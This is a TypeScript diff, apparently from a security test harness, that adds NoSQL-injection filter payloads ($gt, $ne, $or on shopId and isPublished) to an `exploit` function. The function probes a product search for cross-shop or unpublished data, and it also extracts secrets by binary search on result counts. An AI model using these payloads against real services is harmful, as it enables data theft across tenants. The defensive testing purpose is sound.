@@ -58,11 +58,29 @@ function createForms(vary: Vary): string[] {
   ])
 }
 
+/** Filters for what is not the shop's, or not published. */
+const strangers: ((shopId: number) => object)[] = [
+  (shopId) => ({ shopId: shopId + 1 }),
+  (shopId) => ({ shopId: { $gt: shopId } }),
+  () => ({ isPublished: false }),
+  () => ({ isPublished: { $ne: true } }),
+  (shopId) => ({ $or: [{ shopId: shopId + 1 }, { isPublished: false }] }),
+]
+
 /** The number of results says in which half of the alphabet the secret begins. Halving again and again finds all of it. */
 export async function exploit({ searchProducts }: Code, vary: Vary, payloads?: readonly string[]): Promise<Breach | false> {
   const countWith = async (secret: string, filter: string) => {
     const { products, shopId } = openProducts(vary, secret)
     return (await searchProducts(products, shopId, { filter }).catch(() => [])).length
+  }
+  // Whatever is asked for, visitors see products of the shop that are published.
+  for (const make of payloads ? [] : vary.shuffle(strangers)) {
+    const { products, shopId, own } = openProducts(vary)
+    const filter = JSON.stringify(make(shopId))
+    const found = await searchProducts(products, shopId, { filter }).catch(() => [])
+    const foreign = found.find(({ _id }) => !own.some((one) => one._id === _id))
+    if (foreign !== undefined)
+      return { sent: `filter=${filter} to the shop ${shopId}`, got: JSON.stringify(foreign), damage: 'That is a product of another shop, or one that is not published.' }
   }
   const [early, late] = [vary.pick([...'abcdefghijk']) + vary.text(7), vary.pick([...'pqrstuvwxyz']) + vary.text(7)]
   for (const payload of payloads ?? createForms(vary)) {
